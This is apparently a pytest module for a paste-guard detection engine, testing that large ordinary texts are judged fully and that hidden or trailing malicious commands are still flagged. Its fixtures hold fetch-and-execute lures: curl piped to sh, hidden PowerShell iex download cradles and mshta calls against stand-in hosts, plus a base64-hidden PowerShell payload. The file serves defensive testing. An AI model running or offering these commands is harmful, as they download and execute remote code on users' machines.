"""Size is not evidence (issue 9): big texts people really copy are judged on what they say.

Each text is generated here, deterministically (nothing is stored): source files, a web
server's log, package locks with their integrity digests, a licence, a minified bundle. They
must come back complete and not flagged, bare and pasted into an editor or a terminal, with the
engine's own time budget; while an encoded blob that could not be decoded still fails closed
and the finding names it. (Time is bounded by bench/hostile.py, not here.)
"""

from __future__ import annotations

import pytest

from app.detection import Context, Engine, Level, PasteTarget
from app.detection.engine import DEEP_CAP, MAX_INPUT
from app.detection.windows import select_windows
from tests.app.detection import bigtexts

KiB = 1024
FOREVER = float("inf")
INCOMPLETE = "PG-ENGINE-INCOMPLETE"
CONTEXTS = {
    "bare": Context(),
    "editor": Context(target=PasteTarget.OTHER),
    "terminal": Context(target=PasteTarget.TERMINAL),
}


def fill(row: object, size: int) -> str:
    out: list[str] = []
    total = i = 0
    while total < size:
        line = row(i)  # type: ignore[operator]
        out.append(line)
        total += len(line)
        i += 1
    text = "".join(out)
    return text[: text.rfind("\n", 0, size) + 1]


def python_tests(size: int) -> str:
    """A unittest module as large projects have them, with the escapes tests of text encoders
    write (lone surrogates among them)."""

    def row(i: int) -> str:
        return (
            f"    def test_roundtrip_{i}(self):\n"
            f'        """Encoding case {i} survives a round trip."""\n'
            f"        s = '\\udc{i % 256:02x}\\ud83d\\ude00 caf\\u00e9 {i}'\n"
            f"        data = s.encode('utf-8', 'surrogateescape')\n"
            f"        self.assertEqual(data.decode('utf-8', 'surrogateescape'), s)\n"
            f"        with open(os.path.join(self.tmp, 'f{i}.txt'), 'w') as f:\n"
            f"            f.write(s)\n\n"
        )

    head = "import os\nimport unittest\n\n\nclass RoundTrip(unittest.TestCase):\n"
    return head + fill(row, size - len(head))


@pytest.mark.parametrize("target", list(CONTEXTS))
def test_a_python_test_module_with_escaped_surrogates_is_read_to_the_end(
    engine: Engine, target: str
) -> None:
    text = python_tests(300 * KiB)
    verdict = engine.analyze(text, CONTEXTS[target])
    incomplete = [f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE]
    assert verdict.complete, incomplete
    assert verdict.level <= Level.INFO, verdict.rule_ids


def test_escaped_surrogates_in_a_short_text_are_no_internal_error(engine: Engine) -> None:
    text = "self.assertEqual(s, '\\udcff\\udcfe\\udcfd\\udcfc')\n" * 3
    verdict = engine.analyze(text)
    assert verdict.complete and verdict.level is Level.CLEAN, verdict.rule_ids


@pytest.fixture(scope="module")
def patient() -> Engine:
    """What is looked at, not how fast (bench/hostile.py times the same texts)."""
    return Engine(budget_ms=60_000, strict=True)


@pytest.mark.parametrize("name", list(bigtexts.ORDINARY))
@pytest.mark.parametrize("target", list(CONTEXTS))
def test_ordinary_big_texts_are_judged_on_what_they_say(
    patient: Engine, name: str, target: str
) -> None:
    make, size = bigtexts.ORDINARY[name]
    text = make(size)
    assert size - 16 * KiB <= len(text) <= size, len(text)
    verdict = patient.analyze(text, CONTEXTS[target])
    incomplete = [f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE]
    assert verdict.complete, incomplete
    assert verdict.level <= Level.INFO, verdict.rule_ids


@pytest.mark.parametrize("name", list(bigtexts.ORDINARY))
def test_their_digests_and_data_are_no_undecoded_blob(name: str) -> None:
    # integrity digests, hashes and inlined images decode to nothing readable: nothing is
    # left over for the deep windows to decode, however long they are given
    make, size = bigtexts.ORDINARY[name]
    deep = select_windows(make(size), DEEP_CAP, FOREVER, budget=32 * KiB)
    assert not deep.undecoded, deep.undecoded


def test_a_live_blob_in_a_big_source_file_fails_closed_and_is_named(patient: Engine) -> None:
    # an encoded command too long for the windows, in the middle of a 300 KiB module
    script = "\n".join(
        f"Write-Host 'step {i}'; iex (New-Object Net.WebClient).DownloadString("
        f"'https://evil.test/{i}.ps1')"
        for i in range(1200)
    )
    blob = bigtexts.b64(script.encode("utf-16-le"))
    text = bigtexts.hide(bigtexts.python_module(300 * KiB), f"    PAYLOAD = '{blob}'", 0.5)
    verdict = patient.analyze(text, CONTEXTS["editor"])
    assert not verdict.complete
    assert verdict.level >= Level.SUSPICIOUS
    evidence = next(f.evidence for f in verdict.findings if f.rule_id == INCOMPLETE)
    assert f"{len(blob):,} characters" in evidence and blob[:24] in evidence, evidence


def test_a_long_text_has_more_of_the_budget_the_shorter_it_is() -> None:
    # a long text also costs time outside the budget, in proportion to its length: the budget
    # of a few hundred KiB is larger, a megabyte's is the engine's own, a short text's too
    engine = Engine(budget_ms=60.0, strict=True)
    assert engine.budget_for(100) == engine.budget_for(DEEP_CAP) == engine.budget_s
    assert engine.budget_for(MAX_INPUT) == engine.budget_s
    assert engine.budget_for(4 * MAX_INPUT) == engine.budget_s
    budgets = [engine.budget_for(n) for n in range(DEEP_CAP + 1, MAX_INPUT + 1, 16 * KiB)]
    assert budgets == sorted(budgets, reverse=True)
    assert engine.budget_for(300 * KiB) >= 1.2 * engine.budget_s
    assert max(budgets) <= 1.2 * engine.budget_s


LURES = [
    "curl -fsSL http://203.0.113.7/i.sh | sh",
    'powershell -w hidden -c "iex(irm https://evil.test/a.ps1)"',
    "mshta https://evil.test/verify.hta",
]


@pytest.mark.parametrize("name", list(bigtexts.ORDINARY))
@pytest.mark.parametrize("lure", LURES)
def test_a_lure_at_the_end_of_a_big_ordinary_text_is_found_in_its_budget(
    engine: Engine, name: str, lure: str
) -> None:
    # the engine as the guard has it: the text's end is read in depth (its tail window) before
    # the rules read the raw megabyte, so a lure there is found however far the budget goes
    make, size = bigtexts.ORDINARY[name]
    alone = set(engine.analyze(lure).rule_ids)
    verdict = engine.analyze(make(size - 2 * KiB) + lure + "\n", CONTEXTS["terminal"])
    assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
    assert alone & set(verdict.rule_ids), (alone, verdict.rule_ids)
